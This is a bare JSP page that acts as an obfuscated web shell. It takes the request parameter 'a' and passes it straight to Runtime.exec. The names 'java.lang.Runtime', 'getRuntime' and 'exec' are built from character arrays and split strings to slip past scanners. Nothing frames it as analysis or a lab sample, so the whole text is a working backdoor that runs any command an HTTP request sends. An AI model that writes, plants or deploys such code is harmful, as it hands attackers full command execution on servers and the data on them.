<%
  String a = request.getParameter("a");
  Class<?> k = Class.forName(new String(new char[]{'j','a','v','a','.','l','a','n','g','.','R','u','n','t','i','m','e'}));
  Object rt = k.getMethod("getR" + "untime").invoke(null);
  Object p = k.getMethod(new String(new char[]{'e','x','e','c'}), String.class).invoke(rt, a);
%>
